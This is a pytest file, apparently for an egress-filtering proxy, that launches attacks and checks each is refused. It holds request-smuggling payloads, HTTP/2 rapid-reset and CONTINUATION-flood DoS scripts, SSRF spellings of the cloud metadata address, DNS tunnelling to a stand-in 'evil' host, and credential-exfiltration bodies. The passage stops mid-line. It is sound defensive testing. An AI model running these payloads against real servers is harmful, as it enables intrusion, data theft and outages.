"""Attacks on the way out.  Each is judged by what the servers saw; after each, it still serves."""
import gzip
import json
import subprocess
import uuid
import zlib

import pytest

from egress_lab import CURL, helpers_of, memory_of, needs_python
from operators import IS_STATIC

OPEN = "  - allow: '*.example.test'\n"
CODE = ["-o", "/dev/null", "-w", "%{http_code}"]
UP = "https://up.example.test"


@pytest.fixture
def cell(online):
    """A cell that goes on, so that what an attack broke is noticed afterwards."""
    online.start(OPEN, "sleep", "1000")
    yield online
    done = online.inside(*CURL, "https://www.example.test/hello")
    assert done.ok() == "hello from www.example.test by HTTP/2.0\n", "it no longer serves"


def python(cell, script, *words, **how):
    return cell.inside("/usr/bin/python3", "-c", script, *words, **how).ok()


# ---- smuggling over HTTP/1.1 --------------------------------------------------------------------

# Sends each of many things over a connection of its own, and after each asks for a page, to
# see that it is still served: one process for all, because starting them takes the time.
SEND = """
import json, socket, ssl, sys
context = ssl.create_default_context()
def connect(port=443):
    s = socket.create_connection(('up.example.test', port), 10)
    s = context.wrap_socket(s, server_hostname='up.example.test') if port == 443 else s
    s.settimeout(5)
    return s
def talk(s, data, until):
    out = b''
    try:
        s.sendall(data)
        while more := s.recv(65536):
            out += more
            if until and until in out:
                break
    except OSError:
        pass
    return out
page = b'GET /204 HTTP/1.1\\r\\nHost: up.example.test\\r\\nConnection: close\\r\\n\\r\\n'
for line in sys.stdin:
    name, data, until = json.loads(line)
    came = talk(connect(), bytes.fromhex(data), until.encode())
    serves = b' 204 ' in talk(connect(80), page, b'204')
    print(json.dumps([name, came[:100000].hex(), serves]))
"""


def send_all(cell, many, until=""):
    """The response to each of MANY: {name: bytes}."""
    lines = "".join(json.dumps([name, data.hex(), until]) + "\n" for name, data in many.items())
    said = cell.inside("/usr/bin/python3", "-c", SEND, input=lines, seconds=180).ok()
    told = [json.loads(line) for line in said.splitlines()]
    assert [name for name, _, serves in told if not serves] == [], "it no longer serves after these"
    assert len(told) == len(many), said
    return {name: bytes.fromhex(data) for name, data, _ in told}


H = b"Host: up.example.test\r\n"
# Requests that two programs might read differently.  MARK is what a hidden one asks for.
DESYNC = {
    "length-and-chunked": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                          b"0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunked-and-length": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n"
                          b"0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "two-lengths": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n"
                   b"GET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "list-of-lengths": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length: 0, 60\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "plus-length": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length: +4\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "hex-length": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length: 0x4\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "length-with-space": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length : 4\r\n\r\nabcdGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunked-with-space": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "xchunked": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunked-identity": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "two-codings": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "tab-chunked": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "folded": b"POST /echo HTTP/1.1\r\n" + H + b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "bare-lf": b"GET /echo HTTP/1.1\n" + H + b"\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "lf-in-field": b"GET /echo HTTP/1.1\r\n" + H + b"X: a\nGET /MARK HTTP/1.1\r\n\r\n",
    "cr-in-field": b"GET /echo HTTP/1.1\r\n" + H + b"X: a\rGET /MARK HTTP/1.1\r\n\r\n",
    "nul-in-field": b"GET /echo HTTP/1.1\r\n" + H + b"X: a\x00b\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunk-extension": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n5;a=\nxx\r\nhello\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunk-size-0x": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunk-size-overflow": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\nhello\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunk-lf": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "chunk-no-crlf": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "two-hosts": b"GET /MARK HTTP/1.1\r\n" + H + b"Host: evil.test\r\n\r\n",
    "no-host": b"GET /MARK HTTP/1.1\r\n\r\n",
    "host-list": b"GET /MARK HTTP/1.1\r\nHost: up.example.test, evil.test\r\n\r\n",
    "host-user": b"GET /MARK HTTP/1.1\r\nHost: evil.test@up.example.test\r\n\r\n",
    "absolute-other": b"GET http://evil.test/MARK HTTP/1.1\r\n" + H + b"\r\n",
    "absolute-tls-other": b"GET https://evil.test/MARK HTTP/1.1\r\n" + H + b"\r\n",
    "version-2": b"GET /MARK HTTP/2.0\r\n" + H + b"\r\n",
    "version-09": b"GET /MARK\r\n\r\n",
    "version-odd": b"GET /MARK HTTP/1.10\r\n" + H + b"\r\n",
    "space-in-target": b"GET /x /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "tab-in-line": b"GET\t/MARK\tHTTP/1.1\r\n" + H + b"\r\n",
    "leading-junk": b"\x00\x01GET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "no-colon": b"GET /MARK HTTP/1.1\r\n" + H + b"nonsense\r\n\r\n",
    "empty-name": b"GET /MARK HTTP/1.1\r\n" + H + b": x\r\n\r\n",
    "nul-in-path": b"GET /MARK%00 HTTP/1.1\r\n" + H + b"\r\n",
    "slash-in-path": b"GET /x%2f..%2fMARK HTTP/1.1\r\n" + H + b"\r\n",
    "backslash": b"GET /x\\..\\MARK HTTP/1.1\r\n" + H + b"\r\n",
    "fragment": b"GET /MARK#x HTTP/1.1\r\n" + H + b"\r\n",
    "connect-inside": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\nGET /MARK HTTP/1.1\r\n" + H + b"\r\n",
    "trace": b"TRACE /MARK HTTP/1.1\r\n" + H + b"Connection: close\r\n\r\n",
}
# Those that may be answered: the request is refused or passed on as one clear thing.
HARMLESS = {"trace"}


def test_desync(cell):
    marks = {name: uuid.uuid4().hex for name in DESYNC}
    answers = send_all(cell, {name: data.replace(b"MARK", marks[name].encode())
                              for name, data in DESYNC.items()})
    for name, came in answers.items():
        if name in HARMLESS:
            continue
        assert not cell.lab.seen(marks[name]), (name, cell.lab.seen(marks[name]))
        # One answer at most: an error, and the connection ends.
        assert came.count(b"HTTP/1.1 ") <= 1, (name, came)
        assert not came or came.split(b" ")[1][:1] in (b"4", b"5"), (name, came[:200])


def test_hidden_request_in_a_body_stays_a_body(cell):
    mark = uuid.uuid4().hex.encode()
    inner = b"GET /" + mark + b" HTTP/1.1\r\n" + H + b"\r\n"
    came = send_all(cell, {"inner": b"POST /echo HTTP/1.1\r\n" + H + b"Content-Length: %d\r\n\r\n" % len(inner) +
                           inner + b"GET /echo?second HTTP/1.1\r\n" + H + b"Connection: close\r\n\r\n"})["inner"]
    assert came.count(b"HTTP/1.1 200") == 2 and not cell.lab.seen(f"/{mark.decode()}\"")


FIELDS = ["Connection: close, x-secret", "Connection: content-length", "Keep-Alive: x",
          "Proxy-Connection: x", "Proxy-Authorization: x", "TE: trailers, deflate", "Upgrade: h2c",
          "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"]


def test_fields_of_the_connection_stay_here(cell):
    marks = {field: uuid.uuid4().hex for field in FIELDS}
    answers = send_all(cell, {
        field: f"GET /echo?{mark} HTTP/1.1\r\nHost: up.example.test\r\nX-Secret: 1\r\n{field}\r\n"
        "Content-Length: 0\r\n\r\n".encode() for field, mark in marks.items()}, until="\r\n\r\n")
    for field, mark in marks.items():
        assert b" 101 " not in answers[field]
        for line in cell.lab.seen(mark):
            names = [name for name, _ in json.loads(line)["fields"]]
            assert not {"keep-alive", "proxy-connection", "proxy-authorization", "upgrade",
                        "http2-settings"} & set(names), (field, names)
            assert names.count("host") == 1


# ---- HTTP/2 ------------------------------------------------------------------------------------

H2 = """
import h2.config, h2.connection, h2.events, h2.exceptions, socket, ssl, sys, json
class Peer:
    def __init__(self, host):
        context = ssl.create_default_context()
        context.set_alpn_protocols(['h2'])
        self.s = context.wrap_socket(socket.create_connection((host, 443), 10), server_hostname=host)
        self.s.settimeout(5)
        self.c = h2.connection.H2Connection(h2.config.H2Configuration(
            validate_outbound_headers=False, normalize_outbound_headers=False))
        self.c.initiate_connection()
    def ask(self, head):
        self.c.send_headers(1, head, end_stream=True)
        self.flush()
        return self.results()
    def flush(self):
        self.s.sendall(self.c.data_to_send())
    def results(self):
        told = {}
        try:
            while data := self.s.recv(65536):
                for e in self.c.receive_data(data):
                    if isinstance(e, h2.events.ResponseReceived):
                        told[e.stream_id] = dict(e.headers)[b':status'].decode()
                    elif isinstance(e, h2.events.StreamReset):
                        told.setdefault(e.stream_id, 'reset')
                    elif isinstance(e, h2.events.ConnectionTerminated):
                        told['goaway'] = int(e.error_code)
                self.flush()
                if told: break
        except (OSError, h2.exceptions.ProtocolError) as e:
            told['error'] = str(e)
        return told
page = [(':method', 'GET'), (':scheme', 'https'), (':authority', 'up.example.test'), (':path', '/204')]
"""
H2_ALL = H2 + """
for line in sys.stdin:
    name, host, head = json.loads(line)
    told = Peer(host).ask([tuple(field) for field in head])
    print(json.dumps([name, told, Peer('up.example.test').ask(page).get(1) == '204']))
"""


def ask_all(cell, many, host="up.example.test"):
    """The result of each of MANY heads: {name: result}."""
    lines = "".join(json.dumps([name, host, head]) + "\n" for name, head in many.items())
    said = cell.inside("/usr/bin/python3", "-c", H2_ALL, input=lines, seconds=180).ok()
    told = [json.loads(line) for line in said.splitlines()]
    assert [name for name, _, serves in told if not serves] == [], "it no longer serves after these"
    assert len(told) == len(many), said
    return {name: result for name, result, _ in told}


H2_HEADS = {
    "authority-and-host": [(":authority", "up.example.test"), ("host", "evil.test")],
    "other-authority": [(":authority", "evil.test")],
    "lf-in-value": [(":authority", "up.example.test"), ("x", "a\r\nx-mark: MARK")],
    "lf-in-path": [(":authority", "up.example.test"), (":path2", "/")],
    "colon-in-name": [(":authority", "up.example.test"), ("x:y", "1")],
    "space-in-name": [(":authority", "up.example.test"), ("x y", "1")],
    "upper-name": [(":authority", "up.example.test"), ("X-Upper", "1")],
    "connection": [(":authority", "up.example.test"), ("connection", "close")],
    "chunked": [(":authority", "up.example.test"), ("transfer-encoding", "chunked")],
    "te": [(":authority", "up.example.test"), ("te", "gzip")],
    "two-paths": [(":authority", "up.example.test"), (":path", "/evil")],
    "length-lies": [(":authority", "up.example.test"), ("content-length", "100")],
    "two-lengths": [(":authority", "up.example.test"), ("content-length", "0"), ("content-length", "5")],
    "connect": [(":authority", "evil.test:443")],
}


@needs_python("h2")
def test_desync_over_http2(cell):
    marks, many = {}, {}
    for name, fields in H2_HEADS.items():
        mark = marks[name] = uuid.uuid4().hex
        head = [(":method", "CONNECT" if name == "connect" else "GET")]
        if name != "connect":
            head += [(":scheme", "https"), (":path", f"/echo?{mark}")]
        many[name] = head + [(k, v.replace("MARK", mark)) for k, v in fields]
    for name, got in ask_all(cell, many).items():
        assert got.get("1") in (None, "reset", "400", "403", "421", "431"), (name, got)
        assert not cell.lab.seen(marks[name]), (name, got)


@needs_python("h2")
def test_odd_paths_over_http2(cell):
    marks = {path: uuid.uuid4().hex for path in
             ("/x y", "/x\r\nX: y", "/x\x00", "x", "*", "http://evil.test/", "/x#y", "", "//evil.test/x")}
    told = ask_all(cell, {path: [(":method", "GET"), (":scheme", "https"), (":path", path),
                                 (":authority", "up.example.test"), ("x-mark", mark)]
                          for path, mark in marks.items()})
    for path, mark in marks.items():
        assert told[path].get("1") in (None, "reset", "400", "403", "404", "421"), (path, told[path])
        for line in cell.lab.seen(mark):
            assert json.loads(line)["host"] == "up.example.test", path


@needs_python("h2")
def test_rapid_reset(cell):
    """CVE-2023-44487: requests that are taken back at once, by the thousand."""
    told = python(cell, H2 + """
head = page[:3] + [(':path', '/silent?for=5')]
peer, n = Peer('up.example.test'), 0
try:
    for i in range(4000):
        peer.c.send_headers(2 * i + 1, head, end_stream=True)
        peer.c.reset_stream(2 * i + 1, 8)
        n += 1
        if i % 50 == 0:
            peer.flush()
    peer.flush()
    told = peer.results()
except Exception as e:
    told = {'error': str(e)}
print(json.dumps([n, told]))
""")
    assert json.loads(told)
    stays_small(cell)


CONTINUATION = """
import hpack, socket, ssl, struct, sys
host = sys.argv[1]
context = ssl.create_default_context()
context.set_alpn_protocols(['h2'])
s = context.wrap_socket(socket.create_connection((host, 443), 10), server_hostname=host)
s.settimeout(5)
def frame(kind, flags, stream, data):
    return struct.pack('>I', len(data))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + data
e = hpack.Encoder()
first = e.encode([(':method', 'GET'), (':scheme', 'https'), (':authority', host), (':path', '/echo')])
try:
    s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + frame(4, 0, 0, b''))
    s.sendall(frame(1, 1, 1, first))
    block = b''.join(b'\\x00\\x05x-pad\\x7f\\x81\\x01' + b'y' * 256 for _ in range(50))
    for _ in range(5000):
        s.sendall(frame(9, 0, 1, block))
    while s.recv(65536):
        pass
except TimeoutError:
    sys.exit('it is still listening')
except OSError:
    pass
print('cut off')
"""


def stays_small(cell):
    memory = memory_of(cell.operator, cell.cell)
    assert memory and max(memory.values()) < 16 << 20, memory


@needs_python("hpack")
def test_continuation_flood(cell):
    """A head that never ends (CVE-2024-27316): cut off, long before it is large."""
    assert python(cell, CONTINUATION, "up.example.test") == "cut off\n"
    stays_small(cell)


FLOOD = """
import json, socket, ssl, struct, sys
context = ssl.create_default_context()
context.set_alpn_protocols(['h2'])
for line in sys.stdin:
    name, kind, flags, stream, data, n = json.loads(line)
    data = bytes.fromhex(data)
    s = context.wrap_socket(socket.create_connection(('up.example.test', 443), 10),
                            server_hostname='up.example.test')
    s.settimeout(5)
    frame = struct.pack('>I', len(data))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + data
    try:
        s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0')
        for _ in range(n // 100):
            s.sendall(frame * 100)
    except OSError:
        pass
    p = socket.create_connection(('up.example.test', 80), 10)
    p.sendall(b'GET /204 HTTP/1.1\\r\\nHost: up.example.test\\r\\n\\r\\n')
    print(name, b' 204 ' in p.recv(1000))
"""
FLOODS = {"ping": (6, 0, 0, "00" * 8, 20000), "settings": (4, 0, 0, "000300000064", 20000),
          "window": (8, 0, 0, "00000001", 20000), "priority": (2, 0, 1, "0000000010", 20000),
          "data-on-idle": (0, 0, 1, "", 20000), "unknown": (99, 0, 0, "00" * 8, 20000),
          "padding": (0, 8, 1, "ff" * 3, 100), "even-stream": (1, 4, 2, "82", 100),
          "push": (5, 4, 1, "00000002", 100), "goaway": (7, 0, 0, "00" * 8, 100),
          "hpack-junk": (1, 5, 1, "ff" * 100, 100)}


def test_frame_floods(cell):
    """Frames that cost the receiver more than the sender: memory stays, and it serves."""
    lines = "".join(json.dumps([name, *flood]) + "\n" for name, flood in FLOODS.items())
    said = cell.inside("/usr/bin/python3", "-c", FLOOD, input=lines).ok()
    assert said.splitlines() == [f"{name} True" for name in FLOODS]
    stays_small(cell)


# ---- names that do not agree ----------------------------------------------------------------------

FRONTS = {
    "allowed-host": ["-H", "Host: api.example.test", "https://front.example.test/hello?MARK"],
    "other-host": ["-H", "Host: evil.test", "https://front.example.test/hello?MARK"],
    "h1": ["--http1.1", "-H", "Host: api.example.test", "https://front.example.test/hello?MARK"],
    "plain": ["-H", "Host: evil.test", "http://front.example.test/hello?MARK"],
    "other-sni": ["-k", "--connect-to", "evil.test:443:front.example.test:443", "https://evil.test/hello?MARK"],
    "allowed-sni": ["-k", "--connect-to", "api.example.test:443:front.example.test:443",
                    "https://api.example.test/hello?MARK"],
    # Dialled directly, with an allowed name in SNI and Host: nobody resolved it.
    "address": ["--resolve", "www.example.test:443:93.184.216.20", "https://www.example.test/hello?MARK"],
}


def test_fronting(cell):
    """Resolved name, SNI and Host must agree, even if each of them alone were allowed."""
    for name, words in FRONTS.items():
        mark = uuid.uuid4().hex
        done = cell.inside(*CURL, *CODE, *[w.replace("MARK", mark) for w in words])
        assert done.out in ("403", "421", "400", "000"), (name, done)
        assert not cell.lab.seen(mark), name


@needs_python("h2")
def test_fronting_on_a_connection_that_is_reused(cell):
    """Over HTTP/2 another name on the same connection is another server: 421."""
    told = ask_all(cell, {"other": [(":method", "GET"), (":scheme", "https"), (":path", "/hello"),
                                    (":authority", "api.example.test")]}, "front.example.test")
    assert told["other"].get("1") in ("421", "403"), told


# ---- private addresses -----------------------------------------------------------------------------

PRIVATE_NAMES = ["inner", "loop", "zero", "meta", "meta6", "mapped", "nat64", "local6", "synthetic",
                 "shared", "private-alias"]


def private_visits(lab):
    return [line for line in lab.lines("seen.jsonl")
            if json.loads(line).get("at", "93.184").split(".")[0] not in ("93", "2606:2800:220:1::20")
            and json.loads(line).get("at") != "127.0.0.1"]


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_name_that_leads_to_a_private_address(cell, scheme):
    lab, before = cell.lab, None
    # The servers are there: a positive control.
    assert cell.outside(*CURL, "http://inner.example.test/echo").status == 0
    before = len(private_visits(lab))
    assert before > 0
    for name in PRIVATE_NAMES:
        done = cell.inside(*CURL, *CODE, f"{scheme}://{name}.example.test/echo")
        assert done.out in ("403", "502", "000"), (name, done)
        refused = [e for e in cell.events(host=f"{name}.example.test", type="http") if e["verdict"] == "deny"]
        assert refused and refused[-1]["why"] in ("private-address", "unresolved"), (name, refused)
    assert len(private_visits(lab)) == before


def test_one_private_address_among_others(cell):
    before = len(private_visits(cell.lab))
    for _ in range(3):
        assert cell.inside(*CURL, *CODE, "http://mixed.example.test/hello").out == "403"
    assert cell.events(host="mixed.example.test", type="http")[-1]["why"] == "private-address"
    assert len(private_visits(cell.lab)) == before


SPELLINGS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
             "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "100.100.100.200",
             "10.0.0.5", "0xa.0.0.5", "10.5", "172.16.0.5", "192.168.0.5", "0.0.0.0", "0",
             "[::]", "[64:ff9b::a9fe:a9fe]", "198.18.0.1", "198.19.255.255", "203.0.113.5", "127.0.0.1.nip.example.test"]


def test_metadata_in_every_spelling(cell):
    before = len(private_visits(cell.lab))
    script = "; ".join(f"{' '.join(CURL)} -g --max-time 5 -o /dev/null -w '{i} %{{http_code}}\\n' http://{s}/echo 2>/dev/null"
                       for i, s in enumerate(SPELLINGS))
    said = cell.inside("sh", "-c", script + "; :").ok()
    for line in said.splitlines():
        number, code = line.split()
        assert code in ("000", "400", "403"), (SPELLINGS[int(number)], code)
    assert len(private_visits(cell.lab)) == before


def test_host_fields_with_addresses(cell):
    before = len(private_visits(cell.lab))
    for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]", "127.1",
                 "localhost", "up.example.test:22", "up.example.test.", "UP.example.test"):
        done = cell.inside(*CURL, *CODE, "-H", f"Host: {host}", "http://up.example.test/echo")
        assert done.out in (("200",) if host.lower().rstrip(".") == "up.example.test" else
                            ("400", "403", "421")), (host, done)
    assert len(private_visits(cell.lab)) == before


def test_a_rule_may_name_an_address(online):
    rules = "  - allow: 10.0.0.5\n  - allow: inner.example.test\n    private: true\n"
    assert online.curl(rules, *CODE, "http://10.0.0.5/echo").ok() == "200"
    assert online.curl(rules, *CODE, "http://inner.example.test/echo").ok() == "200"
    assert online.curl(rules, *CODE, "http://192.168.0.5/echo").out in ("403", "000")
    # Reserved ranges that people route to themselves.
    rules = "  - allow: 203.0.113.0/24\n  - allow: synthetic.example.test\n    private: true\n"
    assert online.curl(rules, *CODE, "http://203.0.113.5/echo").ok() == "200"
    assert online.curl(rules, *CODE, "http://synthetic.example.test/echo").ok() == "200"


def test_a_resolver_that_invents_addresses(online):
    """Its range is the cell's own, too: the names that it answers open it, and an address is an error that says so."""
    before = len(private_visits(online.lab))
    plain, private = "  - allow: synthetic.example.test\n", "  - allow: '*.example.test'\n    private: true\n"
    assert online.curl(plain, *CODE, "http://synthetic.example.test/echo").out in ("403", "502")
    assert online.refusal(type="http")["why"] == "private-address"
    assert online.curl(private, *CODE, "http://198.18.0.20/echo").out in ("403", "000")
    denied = "  - deny: 198.18.0.0/15\n" + private
    assert online.curl(denied, *CODE, "http://synthetic.example.test/echo").out == "403"
    assert len(private_visits(online.lab)) == before
    assert online.curl(private, *CODE, "http://synthetic.example.test/echo").ok() == "200"
    assert len(private_visits(online.lab)) == before + 1
    for address in ("198.18.0.0/15", "198.18.0.20", "198.19.0.0/16"):
        online.operator.run("-p", online.policy(f"  - allow: {address}\n"), "--", "true").sentence("needs `private: true`")


def test_a_metadata_address_wants_its_own_rule(online):
    rules = "  - allow: meta.example.test\n    private: true\n"
    assert online.curl(rules, *CODE, "http://meta.example.test/echo").out in ("403", "502")
    assert online.curl("  - allow: 169.254.169.254\n", *CODE, "http://169.254.169.254/echo").ok() == "200"


rebinds = iter(range(1, 9))


def test_rebinding(cell):
    """The name leads elsewhere when it is asked again: the address is judged each time."""
    name = f"rebind{next(rebinds)}.example.test"
    assert cell.inside(*CURL, *CODE, f"http://{name}/echo").ok() == "200"
    before = len(private_visits(cell.lab))
    # A courier that has forgotten asks again, and gets the other answer.
    helpers = helpers_of(cell.operator, cell.cell)
    cell.operator.host(f"kill -9 {helpers['courier']}")
    codes = set()
    for _ in range(20):
        codes.add(cell.inside(*CURL, *CODE, f"http://{name}/echo").out)
        if "403" in codes or "502" in codes:
            break
    assert codes & {"403", "502"}, codes
    assert len(private_visits(cell.lab)) == before


def test_a_redirect_is_a_new_request(cell):
    before = len(private_visits(cell.lab))
    for to in ("http://169.254.169.254/echo", "http://inner.example.test/echo", "https://evil.test/hello",
               "http://127.0.0.1:8000/echo", "file:///etc/passwd"):
        done = cell.inside(*CURL, *CODE, "-L", f"{UP}/away?to={to}")
        assert done.out in ("403", "000", "302"), (to, done)
    assert len(private_visits(cell.lab)) == before


# ---- names -----------------------------------------------------------------------------------------

def test_dns_by_other_ways(cell):
    """Over TCP, to other servers, over HTTPS: nothing gets past the gate's own answers."""
    script = """
import socket, struct
def query(name, kind=1):
    return b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
def udp(server, data):
    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(data, (server, 53))
        return s.recv(2000)
    except OSError as e:
        return type(e).__name__.encode()
def tcp(server, data):
    try:
        s = socket.create_connection((server, 53), 3)
        s.sendall(struct.pack('>H', len(data)) + data)
        return s.recv(2000)[2:]
    except OSError as e:
        return type(e).__name__.encode()
for ask in (udp, tcp):
    for server in ('198.18.0.1', '93.184.216.53', '8.8.8.8', 'fd63:6c6f:6973:7465::1'):
        for name in ('leak.evil.test', 'www.example.test'):
            got = ask(server, query(name))
            print(ask.__name__, server, name, got[3] & 15 if len(got) > 11 else got, got[-4:].hex())
for kind in (16, 15, 255, 65, 12):
    print(kind, udp('198.18.0.1', query('leak.evil.test', kind))[3:4].hex())
"""
    said = python(cell, script)
    for line in said.splitlines():
        if "www.example.test" in line and line.startswith("udp"):
            assert " 0 c612" in line, line          # 198.18.x.y
        if "leak.evil.test" in line:
            assert " 0 " not in line, line
    assert cell.lab.asked("leak.evil.test") == []


def test_dns_over_https_is_refused(cell):
    for words in (["-H", "Accept: application/dns-message",
                   f"{UP}/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"],
                  ["-H", "Content-Type: application/dns-message", "--data-binary", "x", f"{UP}/dns-query"],
                  ["-H", "Accept: application/dns-json", f"{UP}/resolve?name=leak.evil.test"],
                  ["-H", "Accept: */*", "-H", "Accept: application/dns-message", f"{UP}/x?dns=AAAB"],
                  [f"{UP}/DNS%2Dquery/?dns=AAAB"],
                  ["-H", "Content-Type: application/octet-stream", "--data-binary", "x", f"{UP}/dns-query"]):
        done = cell.inside(*CURL, *CODE, *words)
        assert done.out == "403", (words, done)
    assert len(cell.events(type="http", why="doh")) == 6


def test_resolvers_are_refused_without_http(online):
    """Over TLS that is passed through, and as raw bytes."""
    rules = ("  - allow: ['*:853', '0.0.0.0/0:853']\n    protocol: tcp\n"
             "  - allow: '*'\n    protocol: tls\n")
    script = """
import socket, ssl
for host, port in (('dns.google', 443), ('dns.google', 853), ('9.9.9.9', 853)):
    try:
        s = socket.create_connection((host, port), 10)
        ssl._create_unverified_context().wrap_socket(s, server_hostname=host)
        print('through')
    except OSError:
        print('refused')
"""
    assert online.python(rules, script).ok() == "refused\n" * 3
    assert [(e["type"], e["host"], e["port"]) for e in online.events(why="doh")] == [
        ("tls", "dns.google", 443), ("tcp", "dns.google", 853), ("tcp", "9.9.9.9", 853)]


def test_dns_messages_that_are_broken(cell):
    script = """
import socket
for data in (b'', b'x', b'\\0' * 12, b'\\xff' * 512, b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1',
             b'\\x12\\x34\\x01\\0\\0\\xff\\0\\0\\0\\0\\0\\0\\x03www', b'\\x12\\x34\\x81\\0\\0\\1\\0\\0\\0\\0\\0\\0\\0\\0\\1\\0\\1'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(data, ('198.18.0.1', 53))
    try:
        t = socket.create_connection(('198.18.0.1', 53), 3)
        t.sendall(len(data).to_bytes(2, 'big') + data)
        t.close()
    except OSError:
        pass
print('sent')
"""
    assert python(cell, script) == "sent\n"


# ---- what leaves ---------------------------------------------------------------------------------

AWS = "AKIA" + "IOSFODNN7Q3ZXKPW"
TOKENS = {
    "aws": f"key={AWS}&secret=wJalrXUtnFEMIK7MDENGbPxRfiCYzR8pLkQ2vN4t",
    "private-key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz\n"
                   "c2gtZWQyNTUxOQAAACDR\n-----END OPENSSH PRIVATE KEY-----\n",
    "rsa": subprocess.run(["openssl", "genrsa", "-traditional", "2048"], check=False, text=True,
                          capture_output=True).stdout,
}


def bodies():
    """Each credential, hidden in each way: {name: (bytes, words of curl)}."""
    found = {}
    for kind, text in TOKENS.items():
        data = text.encode()
        for version in ("--http1.1", "--http2"):
            for name, body, words in (
                    ("plain", data, []), ("padded", b"x " * 100_000 + data + b" x" * 100_000, []),
                    ("chunked", data, [] if version == "--http2" else ["-H", "Transfer-Encoding: chunked"]),
                    ("gzip", gzip.compress(data), ["-H", "Content-Encoding: gzip"]),
                    ("deflate", zlib.compress(data), ["-H", "Content-Encoding: deflate"]),
                    ("twice", gzip.compress(gzip.compress(data)), ["-H", "Content-Encoding: gzip, gzip"])):
                found[f"{kind}-{name}{version}"] = body, [version, *words]
    return found


def test_a_credential_in_a_body(online):
    """Refused, however it is wrapped; the server never has all of it."""
    many = bodies()
    folder = online.operator.folder("bodies", {name: body for name, (body, _) in many.items()})
    lines = [f"printf '%s ' {name}; " + " ".join(f"'{w}'" for w in [
        *CURL, "-o", "/tmp/out", "-w", "%{http_code}\\n", *words, "-H", "Content-Type: text/plain",
